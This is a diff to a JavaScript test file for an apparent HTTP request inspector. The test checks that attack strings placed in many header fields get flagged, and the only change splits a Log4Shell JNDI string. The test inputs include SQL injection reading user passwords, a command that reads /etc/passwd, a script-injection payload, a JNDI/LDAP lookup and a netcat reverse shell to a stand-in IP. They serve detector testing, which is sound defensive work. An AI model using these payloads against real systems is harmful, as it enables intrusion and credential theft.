@@ -134,7 +134,7 @@ test('real pictures, sounds and documents say nothing', (t) => {
 test('headers of protocol carry protocol: text in any of them is judged', (t) => {
   const names = ['traceparent', 'tracestate', 'x-request-id', 'accept', 'accept-language', 'accept-encoding', 'cache-control', 'connection', 'dnt', 'expect', 'host', 'if-match', 'if-none-match', 'if-modified-since', 'if-range', 'keep-alive', 'max-forwards', 'origin', 'pragma', 'priority', 'range', 'sec-ch-ua', 'sec-ch-ua-platform', 'sec-ch-ua-model', 'sec-fetch-site', 'sec-fetch-user', 'sec-gpc', 'sec-websocket-key', 'te', 'trailer', 'upgrade', 'x-api-key', 'x-csrf-token', 'x-requested-with', 'content-disposition', 'authorization', 'date', 'content-length']
   for (const name of names) {
-    for (const text of [SQL, '1 UNION SELECT name, pass FROM users', '; cat /etc/passwd', '<script>alert(1)</script>', '${jndi:ldap://192.0.2.1/a}', 'x; nc 192.0.2.1 80 -e /bin/sh']) t.ok(inspect({ headers: [name, text] }).value >= 0.55, `${name}: ${text}`)
+    for (const text of [SQL, '1 UNION SELECT name, pass FROM users', '; cat /etc/passwd', '<script>alert(1)</script>', '$' + '{jndi:ldap://192.0.2.1/a}', 'x; nc 192.0.2.1 80 -e /bin/sh']) t.ok(inspect({ headers: [name, text] }).value >= 0.55, `${name}: ${text}`)
   }
   t.end()
 })
